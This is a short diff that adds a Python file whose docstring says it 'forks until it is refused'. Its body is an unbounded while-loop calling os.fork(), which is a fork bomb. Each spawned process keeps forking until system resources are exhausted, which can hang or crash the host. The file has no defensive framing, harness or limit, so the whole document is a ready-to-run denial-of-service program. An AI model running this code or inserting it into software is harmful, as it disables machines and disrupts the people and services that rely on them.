@@ -1,0 +1,5 @@
+"""Forks until it is refused."""
+import os
+
+while True:
+    os.fork()
